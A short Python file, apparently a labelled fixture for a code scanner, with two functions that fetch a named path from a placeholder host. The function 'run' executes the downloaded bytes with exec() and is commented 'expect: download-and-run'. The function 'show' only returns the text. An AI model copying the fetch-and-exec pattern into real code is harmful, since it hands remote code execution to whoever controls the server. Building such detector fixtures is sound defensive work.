import http.client


def run(name):
    connection = http.client.HTTPSConnection("profiles.notes.example", timeout=4)
    connection.request("GET", f"/{name}")
    answer = connection.getresponse()
    exec(answer.read(), {})  # expect: download-and-run


def show(name):
    connection = http.client.HTTPSConnection("profiles.notes.example", timeout=4)
    connection.request("GET", f"/{name}")
    return connection.getresponse().read().decode()
